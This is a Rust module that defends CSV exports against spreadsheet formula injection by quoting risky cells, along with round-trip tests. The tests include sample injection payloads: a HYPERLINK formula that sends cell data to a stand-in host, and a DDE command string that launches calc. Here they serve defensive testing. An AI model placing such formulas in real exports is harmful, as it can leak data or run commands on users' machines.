//! Text cells of the CSV files a spreadsheet opens. A cell that starts with `=`, `+`, `-`,
//! `@`, TAB or CR is run as a formula by Excel and LibreOffice, so the exports write such a
//! text cell with a `'` before it (the spreadsheet shows the text, not a result), and the
//! import takes one such `'` off again: an export imports back exactly as it was.

use std::borrow::Cow;

/// Whether a spreadsheet would read `text` as a formula, or it is already guarded text
/// (`'` before a formula), which must keep its own `'` on the way out.
fn needs_guard(text: &str) -> bool {
    match text.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => true,
        Some(b'\'') => needs_guard(&text[1..]),
        _ => false,
    }
}

/// A text cell as an export writes it: `'` before a cell a spreadsheet would run.
pub fn guard(text: &str) -> Cow<'_, str> {
    if needs_guard(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A text cell as the import reads it: without the `'` that [`guard`] put before it.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_are_written_as_text() {
        for formula in [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(guard(formula), format!("'{formula}"));
        }
        for plain in ["Rex", "Goldfish, fancy", "", "1-2", "'quoted'", "it's"] {
            assert_eq!(guard(plain), plain);
        }
    }

    #[test]
    fn every_cell_reads_back_as_it_was_written() {
        for text in [
            "=1+1", "'=1+1", "''=1+1", "-", "'", "''", "Rex", "'Rex", "@", "it's", "",
        ] {
            assert_eq!(unguard(&guard(text)), text, "{text:?}");
        }
        assert_eq!(
            unguard("'Rex"),
            "'Rex",
            "a quote before plain text is the text's own"
        );
    }
}
